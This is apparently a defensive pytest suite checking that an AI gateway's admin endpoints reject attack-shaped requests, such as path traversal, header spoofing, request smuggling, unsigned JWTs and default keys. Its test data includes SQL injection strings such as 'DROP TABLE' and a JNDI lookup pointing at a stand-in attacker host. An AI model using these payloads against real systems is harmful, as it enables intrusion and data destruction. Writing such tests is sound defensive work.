"""Requests in the shape of published attacks on the doors of gateways, sent to a whole server. None gets in.

Each names an advisory that had this shape, where there is one. What is asked for stays shut whichever way: no answer
below 400, nothing made, nothing told.
"""

import base64
import json
import time

import pytest

from tests.integration.admin.wired import CHAT, QUESTION, Client

NEW = {"name": "intruder", "admin": True}


@pytest.fixture(scope="module")
def plain(client: Client) -> str:
    """A key for inference and nothing else."""
    return str(client.make("plain")["key"])


@pytest.fixture(autouse=True)
def nothing_was_made(client: Client):
    yield
    assert "intruder" not in client.names()


def is_shut(answer) -> bool:
    return (answer.status >= 400 or answer.status == 0) and b'"secrets"' not in answer.body


# A key goes in a header. In a URL it would be in every log on the way.
@pytest.mark.parametrize("name", ["api-key", "api_key", "key", "code", "subscription-key", "access_token", "token"])
def test_a_key_in_the_query(client, name):
    key = client.server.key
    assert client.ask("GET", f"/admin/keys?{name}={key}", key=None).status == 401
    assert client.chat(None) == 401
    assert client.ask("POST", f"{CHAT}?{name}={key}", QUESTION, key=None).status == 401


@pytest.mark.parametrize("form", ["cookie", "basic user", "basic password", "digest", "no scheme", "other header"])
def test_a_key_in_a_place_that_is_none(client, form):
    key = client.server.key
    basic = {"basic user": f"{key}:", "basic password": f":{key}"}
    headers = {
        "cookie": {"cookie": f"api-key={key}; token={key}"},
        "digest": {"authorization": f"Digest {key}"},
        "no scheme": {"authorization": key},
        "other header": {"x-litellm-api-key": key, "x-portkey-api-key": key, "x-goog-api-key": key},
    }.get(form) or {"authorization": f"Basic {base64.b64encode(basic[form].encode()).decode()}"}
    assert client.ask("GET", "/admin/keys", key=None, headers=headers).status == 401
    assert client.chat(None, headers=headers) == 401


# Starlette CVE-2026-48710, LiteLLM CVE-2026-49468, and the servers that decode first and ask later.
PATHS = [
    "/%61dmin/keys",
    "/admin%2Fkeys",
    "/admin%2fkeys",
    "/admin%252Fkeys",
    "//admin/keys",
    "/admin//keys",
    "/./admin/keys",
    "/admin/./keys",
    "/openai/../admin/keys",
    "/openai/v1/../../admin/keys",
    "/models/..;/admin/keys",
    "/health/live/../../admin/keys",
    "/health/live%2F..%2F..%2Fadmin%2Fkeys",
    "/admin;/keys",
    "/admin;v=1/keys",
    "/admin/keys;v=1",
    "/admin/keys/",
    "/admin/keys/.",
    "/admin/keys.",
    "/admin./keys",
    "/admin/keys%20",
    "/admin/keys%00",
    "/admin/keys%0A",
    "/admin/keys%0D%0A",
    "/admin/keys%3Flimit=1",
    "/admin/keys%23",
    "/admin/keys.json",
    "/ADMIN/keys",
    "/Admin/Keys",
    "/admin/KEYS",
    "/admin\\keys",
    "/\\admin/keys",
    "/api/projects/default/admin/keys",
    "/openai/v1/admin/keys",
    "/openai/admin/keys",
    "http://localhost/%61dmin/keys",
    "http://health/admin/../admin/keys",
    "/admin/keys#",
    "/admin/ﬁ",
]


@pytest.mark.parametrize("path", PATHS)
def test_a_path_that_others_read_as_admin(client, plain, path):
    for key in (None, plain):
        assert is_shut(client.send(_request("GET", path, key)))
        assert is_shut(client.send(_request("POST", path, key, NEW)))


def _request(method: str, target: str, key: str | None, body: object = None, host: str = "localhost") -> bytes:
    content = b"" if body is None else json.dumps(body).encode()
    fields = f"host: {host}\r\nconnection: close\r\n" + (f"api-key: {key}\r\n" if key else "")
    fields += f"content-type: application/json\r\ncontent-length: {len(content)}\r\n" if content else ""
    return f"{method} {target} HTTP/1.1\r\n{fields}\r\n".encode() + content


@pytest.mark.parametrize(
    "name",
    ["x-original-url", "x-rewrite-url", "x-forwarded-path", "x-forwarded-uri", "x-forwarded-prefix", "x-override-url"],
)
def test_a_header_that_names_another_path(client, plain, name):
    """As frameworks behind IIS and front proxies read them."""
    answer = client.ask("GET", "/health/live", key=plain, headers={name: "/admin/keys"})
    assert answer.json == {"status": "live"}
    assert is_shut(client.ask("GET", "/admin/keys", key=plain, headers={name: "/health/live"}))
    assert client.ask("GET", "/nothing", key=None, headers={name: "/admin/keys"}).status == 404


@pytest.mark.parametrize("name", ["x-http-method-override", "x-http-method", "x-method-override"])
def test_a_header_that_names_another_method(client, name):
    made = client.make(f"method-{name}")
    assert client.ask("GET", f"/admin/keys/{made['id']}", headers={name: "DELETE"}).status == 200
    assert client.ask("POST", "/admin/audit?_method=GET", {}, headers={name: "GET"}).status == 405
    assert client.ask("GET", f"/admin/keys/{made['id']}").status == 200


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("x-forwarded-for", "10.0.0.1"),
        ("x-forwarded-for", "10.0.0.1, 127.0.0.1"),
        ("forwarded", "for=10.0.0.1"),
        ("x-real-ip", "10.0.0.1"),
        ("true-client-ip", "10.0.0.1"),
        ("cf-connecting-ip", "10.0.0.1"),
        ("x-client-ip", "10.0.0.1"),
        ("x-cluster-client-ip", "10.0.0.1"),
        ("x-originating-ip", "10.0.0.1"),
        ("via", "1.1 10.0.0.1"),
    ],
)
def test_a_header_that_names_another_address(client, name, value):
    key = client.make(f"network-{name}-{len(value)}", networks=["10.0.0.0/8"])["key"]
    answer = client.ask("POST", CHAT, QUESTION, key=key, headers={name: value})
    assert answer.status == 403
    assert "Virtual Network/Firewall rules" in answer.json["error"]["message"]


@pytest.mark.parametrize(
    "host",
    [
        "there.openai.azure.com",
        "THERE.services.ai.azure.com:443",
        "there.cognitiveservices.azure.com.",
    ],
)
def test_a_host_that_names_another_tenant(client, plain, host):
    """GitLab AI Gateway CVE-2026-75871. A host says whose door it is; it opens none."""
    assert client.chat(plain) == 200
    assert client.chat(plain, host=host) == 401
    admin = client.make(f"admin-{host.split('.')[1]}", admin=True)["key"]
    assert client.ask("GET", "/admin/keys", key=admin, host=host).status == 401
    for name in ("x-forwarded-host", "x-host", "x-original-host", "x-forwarded-server"):
        answer = client.ask("GET", "/admin/keys?name=none", key=admin, headers={name: host})
        assert answer.json == {"value": []}


@pytest.mark.parametrize(
    "host", ["localhost/admin/keys?x=", "localhost/#@evil", "localhost@evil", "a b", "", "localhost\tx"]
)
def test_a_host_that_is_none(client, host):
    """Starlette CVE-2026-48710: a path inside the host."""
    assert client.send(_request("GET", "/health/live", None, host=host)).status == 400
    assert is_shut(client.send(_request("GET", "/admin/keys", None, host=host)))


@pytest.mark.parametrize(
    "body",
    [
        {"name": "intruder", "admin": True},
        {"name": "intruder", "resource": "there"},
        {"name": "intruder", "user_role": "proxy_admin"},
        {"name": "intruder", "allowed_routes": ["/*"]},
        {"name": "intruder", "permissions": ["*"], "role": "Owner"},
    ],
)
def test_somebody_who_may_not_writes_more_into_the_body(client, plain, body):
    """LiteLLM CVE-2026-47101 and 47102, CVE-2025-0628; Flowise CVE-2026-69258."""
    assert client.ask("POST", "/admin/keys", body, key=plain).status == 403
    assert client.ask("POST", "/admin/keys?resource=there", body, key=plain).status == 401
    assert client.ask("POST", "/admin/keys/plain/rotate", body, key=plain).status == 403
    assert client.ask("POST", CHAT, QUESTION | body, key=plain).status == 200, "to a model it is a member like others"


@pytest.mark.parametrize(
    "more",
    [
        {"resource": "there"},
        {"id": "key_1"},
        {"secrets": [{"id": "mine", "digest": "00" * 32, "hint": "mine", "created": 0}]},
        {"key": "fh-mine"},
        {"created": 0},
        {"user_role": "proxy_admin"},
        {"__proto__": {"admin": True}},
        {"constructor": {}},
    ],
)
def test_somebody_who_may_writes_what_is_not_theirs_to_write(client, more):
    answer = client.ask("POST", "/admin/keys", {"name": "intruder", **more})
    assert answer.status == 400
    assert answer.json["error"]["code"] == "unknown_parameter"


def test_an_admin_of_one_tenant_asks_in_the_name_of_another(client):
    admin = client.make("admin-here", admin=True)["key"]
    theirs = client.make("theirs", resource="there")
    for method, target, body in (
        ("GET", "/admin/keys?resource=there", None),
        ("POST", "/admin/keys?resource=there", NEW),
        ("POST", "/admin/keys?resource=forehearth&resource=there", NEW),
        ("GET", "/admin/audit?resource=there", None),
        ("DELETE", f"/admin/keys/{theirs['id']}?resource=there", None),
        ("DELETE", f"/admin/keys/{theirs['id']}", None),
        ("POST", f"/admin/keys/{theirs['id']}/rotate", {}),
    ):
        answer = client.ask(method, target, body, key=admin)
        assert answer.status in {400, 401, 404}
        assert theirs["id"].encode() not in answer.body.replace(target.encode(), b"") or answer.status == 404
    assert client.chat(theirs["key"], host="there.openai.azure.com") == 200


def test_what_is_somebody_elses_and_what_is_not_there_are_answered_alike(client):
    theirs = client.make("theirs-too", resource="there")["id"]
    nobodys = "key_" + "0" * 32
    for method, rest, body in (("GET", "", None), ("DELETE", "", None), ("POST", "/rotate", {})):
        foreign, missing = (client.ask(method, f"/admin/keys/{each}{rest}", body) for each in (theirs, nobodys))
        assert foreign.status == missing.status == 404
        assert foreign.body.replace(theirs.encode(), b"") == missing.body.replace(nobodys.encode(), b"")


def test_a_limited_key_makes_itself_an_unlimited_one(client):
    limited = client.make("limited", admin=True, deployments=["chat"], networks=["127.0.0.0/8"])["key"]
    other = client.make("unlimited")
    assert client.ask("POST", "/admin/keys", NEW, key=limited).status == 403
    assert client.ask("POST", f"/admin/keys/{other['id']}/rotate", {"now": True}, key=limited).status == 403
    assert client.chat(other["key"]) == 200


def test_somebody_gives_themselves_a_role(client, plain):
    """LiteLLM CVE-2026-47102: whoever may write down what they may."""
    limited = client.make("limited-roles", admin=True, deployments=["chat"])["key"]
    bound = client.make("bound-roles", admin=True, rolesOnly=True)["key"]
    theirs = client.make("theirs-roles", resource="there")["id"]
    owner = {"role": "Owner", "principalType": "user", "principalId": "developer"}
    for key, body in (
        (plain, owner),
        (plain, {"role": "Foundry User", "principalType": "key", "principalId": "plain"}),
        (limited, owner),
        (limited, owner | {"role": "Foundry User"}),
        (bound, owner | {"role": "Foundry User"}),
        (bound, {"role": "Foundry User", "principalType": "key", "principalId": "bound-roles"}),
    ):
        assert client.ask("POST", "/admin/role-assignments", body, key=key).status == 403
    body = {"role": "Foundry User", "principalType": "key", "principalId": theirs}
    assert client.ask("POST", "/admin/role-assignments", body).status == 400
    assert client.ask("POST", "/admin/role-assignments?resource=there", body, key=limited).status == 401
    assert client.chat(bound) == 403
    assert client.ask("GET", "/admin/role-assignments").json == {"value": []}


def test_a_key_that_was_revoked(client):
    made = client.make("revoked", admin=True)
    assert client.chat(made["key"]) == 200
    assert client.ask("DELETE", f"/admin/keys/{made['id']}").status == 204
    assert {client.chat(made["key"]) for _ in range(20)} == {401}
    assert client.ask("POST", "/admin/keys", NEW, key=made["key"]).status == 401


def test_a_secret_that_was_changed_for_another(client):
    made = client.make("changed")
    turned = client.ask("POST", "/admin/keys/changed/rotate", {"now": True}).json
    assert {client.chat(made["key"]) for _ in range(20)} == {401}
    assert {client.chat(turned["key"]) for _ in range(20)} == {200}


def test_a_key_that_begins_or_ends_like_a_good_one(client):
    """LiteLLM CVE-2026-35030: a cache by the beginning of a credential."""
    key = client.make("whole")["key"]
    assert client.chat(key) == 200
    for other in (
        key[:-1],
        key + "x",
        key[:20],
        key[:20] + "x" * 32,
        key.upper(),
        key.lower(),
        key[3:],
        f"{key},{key}",
        f"{key}=",
    ):
        assert client.chat(other) == 401, other


@pytest.mark.parametrize(
    "key",
    [
        "' OR '1'='1",
        "' OR 1=1 --",
        "x'; DROP TABLE documents; --",
        '" OR ""="',
        "x' UNION SELECT id, body FROM documents --",
        "x'||pg_sleep(10)--",
        "%27%20OR%201%3D1",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../keys/development",
        "file:keys/development",
    ],
)
def test_a_credential_that_is_a_program(client, key):
    """LiteLLM CVE-2026-42208: a query made of the bearer."""
    began = time.monotonic()
    assert client.chat(key) == 401
    assert client.ask("GET", "/admin/keys", key=None, headers={"authorization": f"Bearer {key}"}).status == 401
    assert time.monotonic() - began < 5
    assert client.ask("GET", "/admin/keys").status == 200


@pytest.mark.parametrize(
    "key",
    [
        "sk-1234",
        "sk-12345678",
        "admin",
        "master",
        "null",
        "undefined",
        "None",
        "[object Object]",
        "true",
        "0",
        "*",
        "test",
        "changeme",
    ],
)
def test_a_key_that_others_ship_with(client, key):
    """LiteLLM's `sk-1234`, and what a client sends that was given none."""
    assert client.chat(key) == 401
    for scheme in ("Bearer", "bearer", "Token", "ApiKey"):
        assert client.ask("GET", "/admin/keys", key=None, headers={"authorization": f"{scheme} {key}"}).status == 401


def test_a_token_that_nobody_signed(client):
    """PyJWT CVE-2026-48523 and its kin, at the door of operators."""
    head, payload = (
        base64.urlsafe_b64encode(json.dumps(each).encode()).rstrip(b"=").decode()
        for each in ({"alg": "none", "typ": "JWT"}, {"roles": ["Owner"], "oid": "1", "exp": 2**33})
    )
    for token in (f"{head}.{payload}.", f"{head}.{payload}.AA", "eyJ.eyJ.eyJ", "..", f"{head}.{payload}"):
        assert client.ask("GET", "/admin/keys", key=None, headers={"authorization": f"Bearer {token}"}).status == 401


@pytest.mark.parametrize("first", ["good", "bad"])
@pytest.mark.parametrize("name", ["api-key", "x-api-key", "ocp-apim-subscription-key", "authorization"])
def test_one_header_twice(client, plain, name, first):
    """Who reads the first one and who reads the last one disagree; here it is one that nobody has."""
    scheme = "Bearer " if name == "authorization" else ""
    pair = [f"{name}: {scheme}{each}" for each in ((plain, "x") if first == "good" else ("x", plain))]
    fields = "\r\n".join(["host: localhost", *pair, "connection: close"])
    assert client.send(f"GET /openai/v1/models HTTP/1.1\r\n{fields}\r\n\r\n".encode()).status == 401


def test_two_credentials_do_not_add_up(client, plain):
    """A plain key beside what is no key at all stays a plain key."""
    for other in (
        {"authorization": "Bearer admin"},
        {"x-api-key": "development"},
        {"x-admin": "true", "x-user-role": "admin"},
    ):
        assert client.ask("GET", "/admin/keys", key=plain, headers=other).status == 403


@pytest.mark.parametrize("size", [5_000, 60_000, 200_000])
def test_a_very_long_key(client, size):
    began = time.monotonic()
    assert client.send(_request("GET", "/admin/keys", "k" * size)).status in {401, 431}
    assert time.monotonic() - began < 5


@pytest.mark.parametrize("place", ["begin", "middle", "end"])
def test_a_zero_byte_in_a_key(client, place):
    key = client.server.key.encode()
    at = {"begin": 0, "middle": 10, "end": len(key)}[place]
    request = b"GET /admin/keys HTTP/1.1\r\nhost: localhost\r\napi-key: " + key[:at] + b"\x00" + key[at:] + b"\r\n\r\n"
    assert client.send(request).status == 400


@pytest.mark.parametrize("mark", [b"\xa0", b"\xad", b"\xc2\xa0", b"\xef\xbb\xbf", b"\xe2\x80\x8b"])
def test_a_key_with_a_letter_that_is_not_seen(client, mark):
    for given in (mark + client.server.key.encode(), client.server.key.encode() + mark):
        request = b"GET /admin/keys HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\napi-key: " + given + b"\r\n\r\n"
        assert client.send(request).status == 401


def test_a_page_in_a_browser(client):
    """Ollama and n8n before they asked for an origin: no other page's script is let in, and none is told anything."""
    for method in ("OPTIONS", "GET"):
        answer = client.ask(
            method,
            "/admin/keys",
            key=None,
            headers={
                "origin": "https://evil.example",
                "access-control-request-method": "POST",
                "access-control-request-headers": "api-key",
            },
        )
        assert answer.status == 401
        assert "access-control" not in answer.head
    form = {"content-type": "text/plain"}
    assert client.ask("POST", "/admin/keys", NEW, key=None, headers=form).status == 401
    assert client.ask("POST", "/admin/keys", NEW, headers=form).status == 415


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "TRACE", "PUT", "PATCH", "PROPFIND", "CONNECT", "GETT"])
def test_a_method_that_nobody_thought_of(client, plain, method):
    for key in (None, plain):
        answer = client.send(_request(method, "/admin/keys", key))
        assert answer.status >= 400
        assert b"plain" not in answer.body


def test_an_upgrade_past_the_door(client):
    fields = (
        "host: localhost\r\nconnection: upgrade\r\nupgrade: {}\r\n"
        "sec-websocket-version: 13\r\nsec-websocket-key: {}\r\n"
    )
    for protocol in ("websocket", "h2c"):
        key = base64.b64encode(bytes(16)).decode()
        answer = client.send(f"GET /admin/keys HTTP/1.1\r\n{fields.format(protocol, key)}\r\n".encode())
        assert is_shut(answer)


def test_a_request_inside_another(client, plain):
    """What is a body to us is a request to nobody."""
    inner = _request("POST", "/admin/keys", client.server.key, NEW)
    for framing in (
        b"content-length: %d\r\ntransfer-encoding: chunked\r\n" % len(inner),
        b"transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n",
        b"content-length: 0\r\ncontent-length: %d\r\n" % len(inner),
        b"content-length: +%d\r\n" % len(inner),
    ):
        head = b"POST /openai/v1/chat/completions HTTP/1.1\r\nhost: localhost\r\napi-key: " + plain.encode() + b"\r\n"
        assert client.send(head + framing + b"\r\n" + inner).status == 400
    whole = b"GET /health/live HTTP/1.1\r\nhost: localhost\r\ncontent-length: %d\r\n\r\n" % len(inner)
    assert client.send(whole + inner).status == 200


def test_nobody_learns_which_resources_there_are(client):
    admin = client.make("curious", admin=True)["key"]
    for key, status in ((None, 401), (admin, 401), ("fh-none", 401)):
        answers = [client.ask("GET", f"/admin/keys?resource={name}", key=key) for name in ("there", "nowhere", "")]
        assert [each.status for each in answers] == [status] * 3
        assert len({each.body for each in answers}) == 1


def test_a_plain_key_learns_nothing_of_other_keys(client, plain):
    answers = [client.ask("GET", f"/admin/keys/{name}", key=plain) for name in ("plain", "none", "key_" + "0" * 32)]
    assert {each.status for each in answers} == {403}
    assert len({each.body.replace(b"plain", b"") for each in answers}) == 1


def test_what_a_terminal_would_obey_is_not_kept(client):
    escape = "intruder\x1b[2J"
    assert client.ask("POST", "/admin/keys", {"name": escape}).status == 400
    kept = client.ask("GET", "/admin/audit?limit=1").json["value"][0]
    assert kept["target"] == "intruder?[2J"


def test_no_page_and_no_log_has_a_key(client):
    """LiteLLM CVE-2024-9606 and CVE-2025-11203: a key in a log, masked but for its beginning, and in a health page."""
    made = client.make("canary")
    wrong = "fh-canary-" + "w" * 40
    client.chat(made["key"])
    client.chat(wrong)
    client.ask("GET", f"/admin/keys/{wrong}", key=wrong)
    client.ask("POST", "/admin/keys", {"name": wrong, "networks": [made["key"]]})
    pages = [client.ask("GET", target).body.decode() for target in ("/metrics", "/health/ready", "/health/live")]
    pages += [client.ask("GET", target).body.decode() for target in ("/admin/keys?limit=100",)]
    files = [path for path in client.server.data_dir.rglob("*") if path.is_file() and path.parent.name != "keys"]
    assert [path for path in files if path.suffix in {".db", ".sqlite", ".sqlite3"} or "wal" in path.name]
    pages += [path.read_bytes().decode("latin-1") for path in files]
    pages.append(client.server.output)
    for key in (made["key"], client.server.key):
        for start in range(0, len(key) - 12, 6):
            for text in pages:
                assert key[start : start + 12] not in text
    assert not [text for text in [client.server.output, *pages[:3]] if "canary-wwww" in text]
